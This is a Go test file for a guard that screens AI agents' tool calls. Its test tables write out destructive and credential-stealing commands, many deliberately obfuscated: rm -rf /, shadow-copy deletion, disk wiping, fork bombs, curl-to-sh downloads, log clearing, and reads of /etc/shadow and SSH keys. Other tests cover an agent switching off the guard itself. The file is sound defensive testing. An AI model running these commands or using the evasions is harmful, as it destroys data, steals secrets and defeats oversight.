package toolguard

import (
	"encoding/json"
	"path"
	"reflect"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"
)

// TestCallK1: known tools, agents' own names, argv, names that stand twice, wrong types, unknown tools.
func TestCallK1(t *testing.T) {
	g := testGuard()
	for _, tt := range []struct{ tool, args, rule string }{
		{"powershell_exec", `{"script":"vssadmin delete shadows /all"}`, "shadow-copies"},
		{"cmd_exec", `{"command":"vssadmin delete shadows /all"}`, "shadow-copies"},
		{"shell", `{"command":["bash","-lc","rm -rf /"]}`, "linux-delete"},
		{"shell", `{"command":["rm","-rf","/"]}`, "linux-delete"},
		{"shell", `{"command":["echo","rm -rf /"]}`, ""},
		{"Bash", `{"command":"ls","command":"rm -rf /"}`, "linux-delete"},
		{"Bash", `{"command":"rm -rf /","command":"ls"}`, "linux-delete"},
		{"Bash", `{"Command":"rm -rf /"}`, "linux-delete"},
		{"Bash", `{"command":"ls","description":"rm -rf /"}`, ""},
		{"Bash", `{"command":{"text":["rm -rf /"]}}`, ""},
		{"Bash", `"rm -rf /"`, "linux-delete"},
		{"Bash", `["rm -rf /"]`, "linux-delete"},
		{"Bash", `5`, ""}, {"Bash", `null`, ""}, {"Bash", ``, ""}, {"Bash", `{"command":5}`, ""}, {"Bash", `{"command":`, ""},
		{"bash", `{"command":"powershell.exe -enc ZABpAHIA"}`, "encoded-command"},
		{"bash", `{"command":"cmd.exe /c vssadmin delete shadows /all"}`, "shadow-copies"},
		{"powershell_exec", `{"script":"bash -c 'rm -rf /'"}`, "linux-delete"},
		{"Read", `{"file_path":"/etc/shadow"}`, "shadow-file"},
		{"Write", `{"file_path":"/work/run.sh","content":"rm -rf /"}`, ""},
		{"Edit", `{"file_path":"/root/.ssh/id_rsa","old_string":"a"}`, "ssh-keys"},
		{"Grep", `{"pattern":"rm -rf /","path":"/work"}`, ""},
		{"mcp__files__read", `{"options":{"path":"/etc/shadow"}}`, "shadow-file"},
		{"mcp__run__it", `{"command":"mkfs.ext4 /dev/sda"}`, "linux-disk"},
		{"mcp__run__it", `{"script":"Clear-EventLog System"}`, "event-log"},
		{"mcp__notes__add", `{"text":"rm -rf / is bad"}`, ""},
		{"agent_update", `{"url":"http://github.com/a/b/releases/download/v1/c","sha256":"00"}`, "update-source"},
	} {
		hit, ok := g.Check(tt.tool, json.RawMessage(tt.args))
		if hit.ID() != tt.rule || ok != (tt.rule != "") {
			t.Errorf("%s %s: refused by %q, want %q", tt.tool, tt.args, hit.ID(), tt.rule)
		}
		if ok && (!strings.Contains(hit.Message(), tt.rule) || len(hit.Message()) > 1000) {
			t.Errorf("%s: the message does not name the rule: %s", tt.rule, hit.Message())
		}
	}
}

// TestBadInput: what is malformed does not crash, does not take long, and hides nothing that stands before it.
func TestBadInput(t *testing.T) {
	g := testGuard()
	units := utf16.Encode([]rune("vssadmin delete shadows /all"))
	little, big := "\xff\xfe", "\xfe\xff"
	nul := ""
	for _, u := range units {
		little += string([]byte{byte(u), byte(u >> 8)})
		big += string([]byte{byte(u >> 8), byte(u)})
		nul += string([]byte{byte(u), 0})
	}
	for name, tt := range map[string]struct {
		dialect Dialect
		text    string
		rule    string
	}{
		"UTF-16, little":       {PowerShell, little, "shadow-copies"},
		"UTF-16, big":          {PowerShell, big, "shadow-copies"},
		"UTF-16 without mark":  {PowerShell, nul, "shadow-copies"},
		"UTF-16 for cmd":       {Cmd, little, "shadow-copies"},
		"NUL in a shell":       {POSIX, "rm -r\x00f /", "linux-delete"},
		"invalid UTF-8":        {PowerShell, "Write-Host \xff\xfe\x80; Clear-EventLog System", "event-log"},
		"invalid UTF-8, shell": {POSIX, "echo \xff; rm -rf /", "linux-delete"},
		"open quote":           {PowerShell, "Clear-EventLog 'System", "event-log"},
		"open quote, cmd":      {Cmd, `vssadmin delete shadows "/all`, "shadow-copies"},
		"open quote, shell":    {POSIX, "rm -rf /\necho 'a", "linux-delete"},
		"1 MiB of {":           {PowerShell, strings.Repeat("{", 1<<20), ""},
		"1 MiB of {, shell":    {POSIX, strings.Repeat("{", 1<<20), ""},
		"1 MiB of (, shell":    {POSIX, strings.Repeat("(", 1<<20), ""},
		"1 MiB of (, cmd":      {Cmd, strings.Repeat("(", 1<<20), ""},
		"1 MiB of quotes":      {PowerShell, strings.Repeat(`"`, 1<<20), ""},
		"1 MiB of $(":          {PowerShell, strings.Repeat(`$(`, 1<<19), ""},
		"1 MiB of words":       {PowerShell, strings.Repeat("a ", 1<<19), ""},
		"behind 1 MiB":         {PowerShell, strings.Repeat("$a = 'b'\n", 1<<17) + "Clear-EventLog System", "event-log"},
		"behind 1 MiB, shell":  {POSIX, strings.Repeat("a=b c\n", 1<<17) + "rm -rf /", "linux-delete"},
		"in a program":         {POSIX, strings.Repeat("sudo ", 1000) + "rm -rf /", ""}, // nobody writes this; it only must end
		"growing":              {PowerShell, "$a='aaaaaaaa'\n" + strings.Repeat("$a=$a+$a\n", 1000), ""},
		"growing, cmd":         {Cmd, "set a=aaaaaaaa\n" + strings.Repeat("set a=%a%%a%\n", 1000), ""},
		"growing, shell":       {POSIX, "a=aaaaaaaa\n" + strings.Repeat("a=$a$a\n", 1000), ""},
		"doubling words":       {POSIX, `f() { f "$@" "$@"; g "$*$*"; }; f ` + strings.Repeat("a ", 100), ""},
		"loops in loops":       {POSIX, strings.Repeat("for a in b c d e f; do ", 50) + "ls" + strings.Repeat("; done", 50), ""},
		"functions":            {POSIX, "f() { f; f; " + strings.Repeat("ls /; ", 10_000) + "}; f; f", ""},
		"directories":          {POSIX, strings.Repeat("cd aaaaaaaa/bbbbbbbb; rm c\n", 1<<14), ""},
		"substitutions":        {POSIX, "a=bbbbbbbb\n" + strings.Repeat("a=$(echo $a$a)\n", 1000), ""},
		"nested texts":         {PowerShell, strings.Repeat("powershell -c ", 1000) + "dir", ""},
	} {
		if hit, ok := g.Script(tt.dialect, tt.text); hit.ID() != tt.rule || ok != (tt.rule != "") {
			t.Errorf("%s: refused by %q, want %q", name, hit.ID(), tt.rule)
		}
	}
}

// TestNamesK6: the rules of self-protection follow the names.
func TestNamesK6(t *testing.T) {
	moved := ProtectedNames{Service: "tarn", Programs: []string{"/opt/tarn/bin/tarn"}, State: "/srv/tarn", Files: []string{"/run/tarn"}, KillSwitch: "/srv/switch"}
	old, renamed := testGuard(), New(Options{Names: moved})
	for _, tt := range []struct{ command, for2 string }{
		{"systemctl stop weir", "systemctl stop tarn"}, {"pkill weir", "pkill tarn"}, {"rm /usr/local/bin/weir", "rm /opt/tarn/bin/tarn"}, {"rm -rf /var/lib/weir", "rm -rf /srv/tarn"},
		{"touch /var/lib/weir/kill-switch", "touch /srv/switch"}, {"rm -f /run/weir/control.sock", "rm -f /run/tarn/control.sock"}, {"weir kill-switch off", "tarn kill-switch off"},
	} {
		for g, refused := range map[*Guard]string{old: tt.command, renamed: tt.for2} {
			for _, command := range []string{tt.command, tt.for2} {
				if hit, ok := g.Script(POSIX, command); ok != (command == refused) {
					t.Errorf("%s: refused %v by %q", command, ok, hit.ID())
				}
			}
		}
	}
	if _, ok := renamed.Check("fs_read", json.RawMessage(`{"path":"/srv/tarn/vault.json"}`)); !ok {
		t.Error("the vault can be read where it moved to")
	}
}

// TestNoSwitchK1: none of a guard's options takes a rule away, and there is none that could be true or false.
func TestNoSwitchK1(t *testing.T) {
	all := len(testGuard().Rules())
	appended, _ := Appended("f", []byte("tool x -- y"))
	for _, o := range []Options{{}, {Server: "updates.example.org"}, {Appended: appended}} {
		if n := len(New(o).Rules()); n < all {
			t.Errorf("%+v leaves %d of %d rules", o, n, all)
		}
	}
	for i := range reflect.TypeFor[Options]().NumField() {
		if f := reflect.TypeFor[Options]().Field(i); f.Type.Kind() == reflect.Bool {
			t.Errorf("%s is a switch", f.Name)
		}
	}
}

// TestAppendedK12: rules that an operator wrote refuse more; a bad one is told with its line and skipped.
func TestAppendedK12(t *testing.T) {
	rules, problems := Appended("guard-rules", []byte(`# our own
command terraform destroy -- ask the platform team

command Remove-VM -- machines are removed by hand
path **/payroll/** -- personal data
tool mcp__mail__send -- mail goes out through people
command kubectl delete
allow rm -- we like it
path ** -- everything
command rm* -- any
tool
`))
	var bad []string
	for _, p := range problems {
		bad = append(bad, p.String())
	}
	want := []string{
		"guard-rules:7: it gives no reason: end it with -- and why this is refused; this rule is skipped",
		`guard-rules:8: it begins with "allow": a rule begins with command, path or tool, for example command terraform destroy -- ask the platform team; this rule is skipped`,
		"guard-rules:9: the pattern cannot be read, or stands for every path: write for example path /srv/payroll/** -- personal data; this rule is skipped",
		"guard-rules:10: the name of a command has no wildcards: write one rule for each name; this rule is skipped",
		"guard-rules:11: tool is not followed by what it refuses: write for example tool mcp__mail__send -- mail goes out through people; this rule is skipped",
	}
	if diff := cmp.Diff(want, bad); diff != "" {
		t.Error(diff)
	}
	g := New(Options{Names: InstalledNames(), Appended: rules})
	for _, tt := range []struct{ tool, args, rule string }{
		{"Bash", `{"command":"sudo terraform destroy -auto-approve"}`, "operator-2"}, {"Bash", `{"command":"terraform plan"}`, ""}, {"powershell_exec", `{"script":"remove-vm -Name a"}`, "operator-4"},
		{"Read", `{"file_path":"/srv/payroll/2026/a.csv"}`, "operator-5"}, {"Read", `{"file_path":"/srv/pay/a.csv"}`, ""}, {"mcp__mail__send", `{}`, "operator-6"}, {"Bash", `{"command":"rm -rf /"}`, "linux-delete"},
	} {
		if hit, ok := g.Check(tt.tool, json.RawMessage(tt.args)); hit.ID() != tt.rule || ok != (tt.rule != "") {
			t.Errorf("%s %s: refused by %q, want %q", tt.tool, tt.args, hit.ID(), tt.rule)
		}
	}
}

// TestAppendedF31: rules mean what the document says, in any case, by any name of a tool, on paths of Windows; what they cannot mean is told.
func TestAppendedF31(t *testing.T) {
	for _, tt := range []struct{ rule, tool, args, hit string }{
		{"command terraform destroy -- x", "Bash", `{"command":"TERRAFORM DESTROY"}`, "operator-1"},
		{"command terraform destroy -- x", "Bash", `{"command":"cd /work; sudo /usr/bin/Terraform -chdir=a destroy -auto-approve"}`, "operator-1"},
		{"command TERRAFORM Destroy -- x", "Bash", `{"command":"terraform 'des''troy'"}`, "operator-1"},
		{"command terraform destroy -- x", "Bash", `{"command":"bash -c 'TerraForm DESTROY'"}`, "operator-1"},
		{"command terraform destroy -- x", "cmd_exec", `{"command":"TERRAFORM destroy"}`, "operator-1"},
		{"command terraform destroy -- x", "powershell_exec", `{"script":"TERRAFORM destroy"}`, "operator-1"},
		{"command terraform destroy -- x", "Bash", `{"command":"TERRAFORM PLAN; echo terraform destroy"}`, ""},
		{"command rm -- x", "Bash", `{"command":"RM a"}`, "operator-1"},
		{"command make deploy -- x", "Bash", `{"command":"cd app && make deploy"}`, "operator-1"},
		{"command remove-item -- x", "powershell_exec", `{"script":"rm a"}`, "operator-1"},
		{"command Remove-VM -- x", "powershell_exec", `{"script":"REMOVE-VM -Name a"}`, "operator-1"},
		{`path C:\Work\** -- x`, "fs_read", `{"path":"C:\\Work\\a\\b.txt"}`, "operator-1"},
		{`path C:\Work\** -- x`, "fs_read", `{"path":"c:/work/A"}`, "operator-1"},
		{`path C:\Work\** -- x`, "fs_read", `{"path":"C:\\Works\\a"}`, ""},
		{`path c:/Work/*.key -- x`, "Write", `{"file_path":"/work/a.KEY"}`, "operator-1"},
		{`path \\server\share\** -- x`, "fs_read", `{"path":"\\\\server\\share\\a"}`, "operator-1"},
		{`path %USERPROFILE%\Secrets\** -- x`, "fs_read", `{"path":"C:\\Users\\dave\\Secrets\\a"}`, "operator-1"},
		{"path ~/secrets/** -- x", "Read", `{"file_path":"/home/dave/secrets/a"}`, "operator-1"},
		{"path ~/secrets/** -- x", "Read", `{"file_path":"/root/secrets/a"}`, "operator-1"},
		{"path ~/secrets/** -- x", "Read", `{"file_path":"~/secrets/a"}`, "operator-1"},
		{"path $HOME/secrets/** -- x", "Read", `{"file_path":"/srv/secrets/a"}`, ""},
		{"path /srv//x/./../secrets/ -- x", "Read", `{"file_path":"/srv/y/../secrets"}`, "operator-1"},
		{"path **/payroll/** -- x", "Read", `{"file_path":"/srv/PAYROLL/a"}`, "operator-1"},
		{"tool mcp__mail__send -- x", "MCP__Mail__Send", `{}`, "operator-1"},
		{"tool LocalMemoryRecall -- x", "mcp__weir__LocalMemoryRecall", `{"action":"list_stores"}`, "operator-1"},
		{"tool mcp__weir__VaultHttpFetch -- x", "VaultHttpFetch", `{}`, "operator-1"},
		{"tool mcp__mail__send -- x", "mcp__mail__list", `{}`, ""},
	} {
		rules, problems := Appended("f", []byte(tt.rule))
		if len(problems) > 0 {
			t.Errorf("%s: %v", tt.rule, problems)
			continue
		}
		if hit, ok := New(Options{Names: InstalledNames(), Appended: rules}).Check(tt.tool, json.RawMessage(tt.args)); hit.ID() != tt.hit || ok != (tt.hit != "") {
			t.Errorf("%s: %s %s: refused by %q", tt.rule, tt.tool, tt.args, hit.ID())
		}
	}
	for rule, want := range map[string]string{
		"block terraform":               `begins with "block"`,
		"deny tool x -- y":              `begins with "deny"`,
		"Command terraform -- y":        `begins with "Command"`,
		"-- y":                          `begins with "--"`,
		"command -- y":                  "command is not followed",
		"path":                          "path is not followed",
		"command terraform":             "no reason",
		"command terraform --":          "no reason",
		`path C:\ -- x`:                 "every path",
		"path C:/** -- x":               "every path",
		"path /srv/[ -- x":              "cannot be read",
		"tool mcp__mail__* -- x":        "no tool",
		"tool Bash(rm:*) -- x":          "no tool",
		"tool two names -- x":           "no tool",
		"commandterraform destroy -- x": `begins with "commandterraform"`,
	} {
		rules, problems := Appended("f", []byte(rule))
		if len(rules) > 0 || len(problems) != 1 || !strings.Contains(problems[0].What, want) {
			t.Errorf("%s: %v %v, want %q", rule, rules, problems, want)
		}
	}
	for kind, rule := range ruleExamples {
		if rules, problems := Appended("f", []byte(rule)); len(rules) != 1 || len(problems) > 0 {
			t.Errorf("the example of %s: %v", kind, problems)
		}
	}
}

func FuzzCheck(f *testing.F) {
	g := testGuard()
	for _, r := range g.Rules() {
		for _, e := range append(r.Refused[:len(r.Refused):len(r.Refused)], r.Near...) {
			f.Add(e.Tool, string(input(e)))
		}
	}
	f.Add("mcp__x", `{"a":[{"path":["b",{"c":"d"}]}],"command":["rm","-rf","/"]}`)
	f.Fuzz(func(t *testing.T, tool, args string) {
		if hit, ok := g.Check(tool, json.RawMessage(args)); ok && (hit.Rule == nil || hit.Message() == "" || len(hit.Excerpt) > 8<<10) {
			t.Errorf("%q %q: %+v", tool, args, hit)
		}
	})
}

func FuzzScript(f *testing.F) {
	g := testGuard()
	for _, r := range g.Rules() {
		for _, e := range r.Refused {
			f.Add(uint8(language(e.Tool)), e.Text)
		}
	}
	f.Fuzz(func(t *testing.T, d uint8, text string) {
		if hit, ok := g.Script(Dialect(d%3), text); ok && hit.Rule == nil {
			t.Errorf("%q: refused by no rule", text)
		}
	})
}

// TestNotCalmK2K4: names that only reading finds: in variables of the system, in parts, in functions.
func TestNotCalmK2K4(t *testing.T) {
	g := testGuard()
	long := strings.Repeat("echo a\n", 200)
	for _, tt := range []struct {
		dialect    Dialect
		text, rule string
	}{
		{Cmd, "rd /s /q %systemroot%", "delete-system"}, {Cmd, "rd /s /q !SystemRoot!", "delete-system"}, {PowerShell, "rm -r $env:windir", "delete-system"},
		{PowerShell, "Remove-Item -Recurse -Force $env:SystemRoot", "delete-system"}, {POSIX, `a=r; b=m; "$a""$b" -rf /`, "linux-delete"}, {POSIX, `a=r; "${a}"m -rf /`, "linux-delete"},
		{POSIX, `a=r; b=m; ${a}"$b" -rf /`, "linux-delete"}, {POSIX, "function b { b | b & }; b", "fork-bomb"}, {POSIX, "b() {\n" + long + "b | b & }; b", "fork-bomb"}, {POSIX, "b ()\n{ b | b & }; b", "fork-bomb"},
		{POSIX, "x=rm\n" + long + "$x -rf /", "linux-delete"}, {POSIX, long + "{\ncurl x\n} | sh", "linux-download-run"}, {POSIX, long + "eval $(\ncurl x\n)", "linux-download-run"},
		{POSIX, long + "case $a in\nb) mkfs /dev/sda ;;\nesac", "linux-disk"}, {POSIX, long + "sh <<'E'\n" + long + "rm -rf /\nE\n" + long, "linux-delete"}, {POSIX, long + "echo 'a\nb'\nif true\nthen rm -rf /\nfi", "linux-delete"},
		{POSIX, "{r,}m -rf /", "linux-delete"}, {POSIX, "r{m,} -rf /", "linux-delete"}, {POSIX, "x=sda; cat a > /dev/$x", "linux-disk"}, {POSIX, "x=sda; cat a > /dev/\"$x\"", "linux-disk"},
		{POSIX, `"C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All`, "defender"}, {Cmd, "set a=vss& set b=admin& %a%%b% delete shadows", "shadow-copies"},
		{Cmd, "set v=il\nwevtut%v% cl Application", "event-log"}, {Cmd, "set v=tutil\r\ncer^\r\n%v% -urlcache -f https://example.org/a.exe a.exe", "download-run"}, {Cmd, "set v=D\r\nformat %v%: /q /y", "disk-format"},
		{POSIX, "v=s\n${v}\\ed -i s/enforcing/disabled/ /etc/selinux/config", "linux-protection"}, {POSIX, "v=l\nsystemct\\\n$v stop auditd", "linux-logs"}, {POSIX, ":(\\\n){ :|:& };:", "fork-bomb"}, {POSIX, "rm -rf {,}/", "linux-delete"},
		{PowerShell, "$v='win3'\ngwmi $($v)2_shadowcopy | % { $_.Delete() }", "shadow-copies"}, {PowerShell, "[IO.File]:: OpenWrite('\\\\.\\PhysicalDrive0')", "disk-raw"}, {PowerShell, "gwmi win32_shadowcopy | % { $_.`\nDelete() }", "shadow-copies"},
		{PowerShell, "$v='C:\\Windo'\nRemove-Item -Recurse -Force $($v)ws", "delete-system"},
		{POSIX, "r\\\nm -rf /", "linux-delete"}, {POSIX, "r\\\r\nm -rf /", "linux-delete"}, {POSIX, "r''m -rf /", "linux-delete"},
		{Cmd, strings.Repeat("dir a\r\n", 200) + "set a=vssadmin\r\n%a% delete shadows", "shadow-copies"}, {Cmd, strings.Repeat("dir a\r\n", 200) + "vss^\r\nadmin delete shadows", "shadow-copies"},
	} {
		if hit, ok := g.Script(tt.dialect, tt.text); !ok || hit.ID() != tt.rule {
			t.Errorf("%d %.100q: refused by %q, want %q", tt.dialect, tt.text, hit.ID(), tt.rule)
		}
	}
}

func FuzzAppended(f *testing.F) {
	f.Add("command a b -- c\npath x -- y\ntool z -- w")
	f.Fuzz(func(t *testing.T, data string) {
		rules, problems := Appended("f", []byte(data))
		if n := len(rules) + len(problems); n > strings.Count(data, "\n")+1 {
			t.Errorf("%d of %q", n, data)
		}
		New(Options{Names: InstalledNames(), Appended: rules}).Check("Bash", json.RawMessage(`{"command":"ls"}`))
	})
}

// F32: a call of which not all can be looked up is refused, however harmless what was looked up is.
func TestF32NotWhole(t *testing.T) {
	g := testGuard()
	for _, whole := range []bool{true, false} {
		hit, ok := g.CheckIn("Read", json.RawMessage(`{"file_path":"/work/a"}`), func(p string) ([]string, bool) { return []string{p}, whole })
		if ok == whole || ok && hit.ID() != "unreadable" {
			t.Errorf("whole %v: refused %v by %q", whole, ok, hit.ID())
		}
	}
}

// F32: paths stand under other agents' names as well, in objects and as URIs; what is typed to a program may be a command under any name.
func TestF32Names(t *testing.T) {
	g := testGuard()
	for _, name := range []string{
		"absolute_path", "target_file", "image_path", "relative_workspace_path", "uri", "file.path", "File Path", "fileUri", "ABSOLUTE-PATH", "pathname", "target_filename", "documentUri", "notebook_file",
	} {
		for _, tool := range []string{"Read", "read_file", "mcp__fs__get"} {
			for _, value := range []string{
				`"/etc/shadow"`, `"file:///etc/shadow"`, `"file://localhost/etc/shadow"`, `"file:/etc/shadow"`, `"FILE:///etc/%73hadow"`, `"file:///%65tc%2fshadow?x#y"`, `["/tmp/a","/etc/shadow"]`,
				`{"value":"/etc/shadow"}`, `{"value":{"fsPath":["/etc/shadow"]}}`, `[{"x":"/etc/shadow"}]`,
			} {
				args, _ := json.Marshal(map[string]json.RawMessage{name: json.RawMessage(value)})
				if hit, _ := g.Check(tool, args); hit.ID() != "shadow-file" {
					t.Errorf("%s %s: refused by %q", tool, args, hit.ID())
				}
			}
		}
	}
	// Under a name that says nothing, and as somebody may write them.
	for _, tool := range []string{"Read", "read_file", "Write", "mcp__fs__get", "open"} {
		for _, name := range []string{"input", "name", "location", "value", "args", "resource", "document", "image", "root", "x", "url", "media"} {
			for _, value := range []string{`"/etc/shadow"`, `"file:///etc/shadow"`, `["-n","/etc/shadow"]`, `{"y":["/etc/shadow"]}`, `"../../../../etc/shadow"`, `"@/etc/shadow"`, `"/etc/%73hadow"`} {
				args, _ := json.Marshal(map[string]json.RawMessage{name: json.RawMessage(value)})
				if hit, _ := g.Check(tool, args); hit.ID() != "shadow-file" {
					t.Errorf("%s %s: refused by %q", tool, args, hit.ID())
				}
			}
		}
		for _, value := range []string{"/etc/%73hadow", "/etc/shadow#L1", "/etc/shadow?raw=1", "@/etc/shadow", "`/etc/shadow`", "</etc/shadow>", "%2Fetc%2Fshadow"} {
			args, _ := json.Marshal(map[string]string{"path": value})
			if hit, _ := g.Check(tool, args); hit.ID() != "shadow-file" {
				t.Errorf("%s %s: refused by %q", tool, args, hit.ID())
			}
		}
	}
	for _, args := range []string{`{"argv":["rm","-rf","/"]}`, `{"program":"rm","args":["-rf","/"]}`, `{"args":["-rf","/"],"cmd":"rm"}`, `{"command":"rm","arguments":"-rf /"}`, `{"executable":"/bin/rm","args":["-r","-f","/"]}`} {
		if hit, _ := g.Check("mcp__x__start", json.RawMessage(args)); hit.ID() != "linux-delete" {
			t.Errorf("%s: refused by %q", args, hit.ID())
		}
	}
	for _, tool := range []string{"Read", "fs_read", "mcp__fs__get"} {
		for _, args := range []string{`"/etc/shadow"`, `["/etc/shadow"]`, `["/work/a","/etc/shadow"]`, `[["/etc/shadow"]]`, `[{"path":"/etc/shadow"}]`} {
			if hit, _ := g.Check(tool, json.RawMessage(args)); hit.ID() != "shadow-file" {
				t.Errorf("%s %s: refused by %q", tool, args, hit.ID())
			}
		}
	}
	// Codex's shells take a patch as a command.
	for _, long := range []string{"", strings.Repeat("+ line\n", 200)} {
		patch := "*** Begin Patch\n*** Add File: a\n" + long + "*** Add File: /var/lib/weir/kill-switch\n+x\n*** End Patch\n"
		for tool, args := range map[string]any{
			"shell": map[string]any{"command": []string{"apply_patch", patch}}, "Bash": map[string]any{"command": "cd /w && apply_patch <<'EOF'\n" + patch + "EOF\n"}, "exec_command": map[string]any{"cmd": "applypatch '" + patch + "'"},
		} {
			data, _ := json.Marshal(args)
			if hit, _ := g.Check(tool, data); hit.Rule == nil || hit.Rule.Group != OnSelf {
				t.Errorf("%s, a patch of %d bytes: refused by %q", tool, len(patch), hit.ID())
			}
		}
	}
	for _, args := range []string{`{"chars":"rm -rf /"}`, `{"text":"rm -rf /"}`, `{"input":"rm -rf /\n"}`, `{"data":["rm -rf /"]}`, `{"a":{"keys":["rm","-rf","/"]}}`, `"rm -rf /"`} {
		if hit, _ := g.Check("write_stdin", json.RawMessage(args)); hit.ID() != "linux-delete" {
			t.Errorf("write_stdin %s: refused by %q", args, hit.ID())
		}
	}
	for _, tt := range []struct{ tool, args string }{
		{"Read", `{"profile":"/etc/shadow"}`}, {"mcp__x", `{"aws_profile":"/etc/shadow"}`}, {"mcp__x", `{"profiles":["/etc/shadow"]}`}, {"mcp__x", `{"title":"/etc/shadow"}`},
		{"mcp__fs__put", `{"file":{"path":"/work/a.md","content":"/etc/shadow"}}`}, {"mcp__fs__put", `{"files":[{"path":"/work/a.md","text":"see ~/.ssh/id_rsa"}]}`},
		{"Edit", `{"file_path":"/work/a","edits":[{"old_string":"/etc/shadow","new_string":"~/.ssh/id_rsa"}]}`}, {"mcp__web", `{"uri":"https://example.org/etc/shadow"}`},
		{"write_stdin", `{"session_id":"a-1","chars":"y\n"}`}, {"write_stdin", `{"session_id":5,"chars":""}`},
	} {
		if hit, ok := g.Check(tt.tool, json.RawMessage(tt.args)); ok {
			t.Errorf("%s %s: refused by %q", tt.tool, tt.args, hit.ID())
		}
	}
}

// F32: reading is no change, a relative path is not an absolute one, asking is no order, and context is no header; their neighbours are refused.
func TestF32Harmless(t *testing.T) {
	g := testGuard()
	in := func(dir string) func(string) ([]string, bool) {
		return func(p string) ([]string, bool) {
			if !strings.HasPrefix(p, "/") {
				p = dir + "/" + p
			}
			return []string{path.Clean(p)}, true
		}
	}
	patch := func(lines ...string) string {
		args, _ := json.Marshal(map[string]string{"input": "*** Begin Patch\n" + strings.Join(lines, "\n") + "\n*** End Patch\n"})
		return string(args)
	}
	for _, tt := range []struct{ tool, dir, args, rule string }{
		{"read_file", "/work", `{"path":"/etc/weir/policy.yaml"}`, ""}, {"list_dir", "/work", `{"path":"/run/weir"}`, ""}, {"view_image", "/work", `{"path":"/usr/bin/weir"}`, ""},
		{"grep_files", "/work", `{"pattern":"a","path":"/etc/weir"}`, ""}, {"Read", "/etc/weir", `{"file_path":"policy.yaml"}`, ""},
		{"read_file", "/work", `{"path":"/var/lib/weir/vault.json"}`, "sensor-vault"}, {"Read_File", "/work", `{"path":"/etc/shadow"}`, "shadow-file"}, {"write_file", "/work", `{"path":"/etc/weir/policy.yaml"}`, "sensor-files"},
		{"Edit", "/work", `{"file_path":"/etc/weir/policy.yaml"}`, "sensor-files"},
		{"Edit", "/work", `{"file_path":"etc/weir/policy.yaml"}`, ""}, {"Write", "/work", `{"file_path":"etc/shadow"}`, ""}, {"Read", "/work", `{"file_path":"./etc/shadow"}`, ""},
		{"Edit", "/", `{"file_path":"etc/weir/policy.yaml"}`, "sensor-files"}, {"Edit", "/etc", `{"file_path":"weir/policy.yaml"}`, "sensor-files"}, {"Read", "/work", `{"file_path":"../etc/shadow"}`, "shadow-file"},
		{"Read", "/work", `{"file_path":" /etc/shadow"}`, "shadow-file"}, {"Read", "/work", `{"file_path":"\"/etc/shadow\""}`, "shadow-file"}, {"Read", "/work", `{"file_path":".ssh/id_rsa"}`, "ssh-keys"},
		{"Read", "/work", `{"file_path":"~/.ssh/id_rsa"}`, "ssh-keys"}, {"Read", "/work", `{"file_path":"C:\\Windows\\System32\\config\\SAM"}`, "windows-credentials"},
		{"Read", "/work", `{"file_path":"Windows\\System32\\config\\SAM"}`, "windows-credentials"}, {"Read", "/work", `{"file_path":"\\\\localhost\\C$\\Windows\\System32\\config\\SAM"}`, "windows-credentials"},
		{"Read", "/work", `{"file_path":"file:///etc/shadow"}`, "shadow-file"},
		{"Bash", "/work", `{"command":"weir kill-switch status"}`, ""}, {"Bash", "/work", `{"command":"weir kill-switch off"}`, "sensor-service"}, {"Bash", "/work", `{"command":"weir kill-switch --file status off"}`, "sensor-service"},
		{"Bash", "/work", `{"command":"weir kill-switch"}`, "sensor-service"}, {"Bash", "/work", `{"command":"weir approve status"}`, "sensor-service"},
		{"apply_patch", "/work", patch("*** Update File: docs/a.md", "@@", " *** Add File: /etc/shadow", "-a", "+b"), ""},
		{"apply_patch", "/work", patch("*** Update File: docs/a.md", " *** Delete File: /etc/shadow", "+b", "*** End of File"), ""},
		{"apply_patch", "/work", patch("*** Update File: docs/a.md", "*** Move to: docs/b.md", " *** Add File: /etc/shadow", "+b"), ""},
		{"apply_patch", "/work", patch("*** Add File: docs/a.md", "+ *** Add File: /etc/shadow"), ""},
		{"apply_patch", "/work", patch("*** Update File: docs/a.md", " a", "+b", "*** Add File: /etc/shadow", "+b"), "shadow-file"},
		{"apply_patch", "/work", patch("  *** Add File: /etc/shadow", "+b"), "shadow-file"}, {"apply_patch", "/work", patch("*** Delete File: a", "\t*** Delete File: /etc/shadow"), "shadow-file"},
		{"apply_patch", "/work", patch("*** Update File: a", " a", "+b", "*** Delete File: c", " *** Delete File: /etc/shadow"), "shadow-file"},
		{"apply_patch", "/work", patch("  *** Update File: a", "*** Move to: /etc/shadow", " a", "+b"), "shadow-file"},
	} {
		hit, ok := g.CheckIn(tt.tool, json.RawMessage(tt.args), in(tt.dir))
		if hit.ID() != tt.rule || ok != (tt.rule != "") {
			t.Errorf("%s in %s %s: refused by %q, want %q", tt.tool, tt.dir, tt.args, hit.ID(), tt.rule)
		}
	}
}

// F23 (K2): arrays, arguments and words for xargs cost no more than the length of the text says.
func TestF23BoundedK2(t *testing.T) {
	g := testGuard()
	for what, text := range map[string]string{
		"append":   "a=(x)\n" + strings.Repeat("a+=(x)\n", 9000) + "rm \"${a[@]}\"",
		"double":   "a=(x)\n" + strings.Repeat("a=(\"${a[@]}\" \"${a[@]}\")\n", 2000) + "rm \"${a[@]}\"",
		"shift":    "set -- " + strings.Repeat("x ", 8000) + "\n" + strings.Repeat("shift\n", 7000) + "rm \"$@\"",
		"parallel": "parallel rm " + strings.Repeat("{} ", 9000) + " ::: " + strings.Repeat("x ", 5000),
		"files":    strings.Repeat("echo x > x; sh x\n", 3000),
		"nested":   strings.Repeat("cat < <(", 400) + "echo x" + strings.Repeat(")", 400) + " | sh",
	} {
		if hit, ok := g.Whole(POSIX, text); ok {
			t.Errorf("%s: refused by %s", what, hit.ID())
		}
	}
}
